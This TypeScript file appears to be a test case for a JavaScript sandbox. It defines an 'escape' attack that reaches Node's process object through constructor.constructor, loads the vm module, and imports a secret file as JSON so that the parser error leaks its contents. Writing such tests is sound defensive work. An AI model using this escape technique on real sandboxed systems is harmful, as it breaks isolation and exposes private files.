import { attack } from '../attack.ts';

/** The secret file as a JSON module of the host's own loader: the parser's message quotes the text. */
export const escape = attack({
	grants: [],
	source: `
		const host = reach();
		const { runInThisContext, constants } = host?.constructor.constructor('return process')().getBuiltinModule('vm') ?? {};
		if (!runInThisContext) return;
		const load = runInThisContext('(path) => import(path, { with: { type: "json" } })', { importModuleDynamically: constants.USE_MAIN_CONTEXT_DEFAULT_LOADER });
		try { return await load('file://' + secretFile); } catch (error) { return [error.message, error.stack]; }
	`,
});
